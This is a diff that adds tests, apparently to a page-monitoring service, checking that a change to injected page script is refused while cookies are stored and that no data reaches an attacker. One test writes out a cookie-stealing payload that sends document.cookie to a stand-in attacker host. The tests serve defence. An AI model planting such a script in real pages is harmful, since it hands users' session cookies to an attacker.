@@ -182,3 +182,30 @@ describe('a header name in another case', () => {
     expect(lastSeen(target).header).toBeUndefined();
   });
 });
+
+describe('code added to the page', () => {
+  it('a PATCH of capture.js is 400 naming every stored cookie, and a script that would send document.cookie to the attacker never runs', async () => {
+    const s = newAll();
+    const m = await create(s);
+    const res = await patchOf(m, { capture: { js: `new Image().src = '${attacker.url}/steal?' + encodeURIComponent(document.cookie)` } });
+    expect(res.status).toBe(400);
+    expect((await errorOf(res)).details).toEqual([
+      { path: 'capture.cookies.0.value', message: expect.stringMatching(/^capture\.js changed, and code added to the page can read a stored cookie/) },
+      { path: 'capture.cookies.1.value', message: expect.stringMatching(/^capture\.js changed/) },
+    ]);
+    expect((await get(m)).capture.js).toBeUndefined();
+    // The stored monitor still captures; nothing of it reaches the attacker.
+    expect((await runAndWait(svc.call, key, m.id)).status).toBe('succeeded');
+    expect(attacker.requests).toEqual([]);
+  });
+
+  it('with the cookies sent again the new code is taken (the values are the caller\'s own again)', async () => {
+    const s = newAll();
+    const m = await create(s);
+    const again = newAll();
+    const res = await patchOf(m, { capture: { js: 'document.title = "x"', cookies: captureWith(again).cookies } });
+    expect(res.status, await res.clone().text()).toBe(200);
+    expect((await runAndWait(svc.call, key, m.id)).status).toBe('succeeded');
+    expect(lastSeen(target).cookie).toBe(again.cookie);
+  });
+});
